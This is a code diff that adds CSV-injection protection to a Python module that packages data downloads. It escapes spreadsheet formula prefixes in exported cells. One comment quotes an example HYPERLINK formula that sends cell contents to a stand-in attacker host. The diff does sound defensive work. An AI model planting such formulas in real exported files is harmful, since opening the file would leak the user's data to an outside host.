@@ -2,12 +2,35 @@
 filters, the sources with citations and licences, the date and the link that reopens the view."""
 
 import io
+import re
 import zipfile
 from datetime import date
 
 import pandas as pd
 
 from components.provenance import source_line, used_sources, with_attribution
+
+# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV injection"): a news title from a
+# user's file such as '=HYPERLINK("http://evil.example/?"&A1,"click")' would run when the download is opened.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[-+]?\d[\d,]*(\.\d+)?")  # "-12.5" is a number to a spreadsheet, not a formula
+
+
+def formula_safe(table: pd.DataFrame) -> pd.DataFrame:
+    """The table as every download (CSV, Excel, zip) writes it: a text cell that a spreadsheet would run as a
+    formula gets a leading apostrophe, so it is shown as the text it is. The table on screen is not changed."""
+    safe = table
+    for column in table.columns:
+        values = table[column]
+        if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
+            continue
+        is_formula = values.map(
+            lambda value: isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)
+        ).astype(bool)
+        if is_formula.any():
+            safe = safe.copy() if safe is table else safe
+            safe.loc[is_formula, column] = "'" + values[is_formula]
+    return safe
 
 
 def package_readme(
@@ -64,6 +87,6 @@ def package_bytes(
             package_readme(tables, sources, title=title, measure=measure, filters=filters, view_link=view_link, on=on),
         )
         for name, table in tables.items():
-            archive.writestr(f"{name}.csv", with_attribution(table, sources).to_csv(index=False))
-        archive.writestr("sources.csv", used_sources(sources, ids).to_csv(index=False))
+            archive.writestr(f"{name}.csv", formula_safe(with_attribution(table, sources)).to_csv(index=False))
+        archive.writestr("sources.csv", formula_safe(used_sources(sources, ids)).to_csv(index=False))
     return buffer.getvalue()
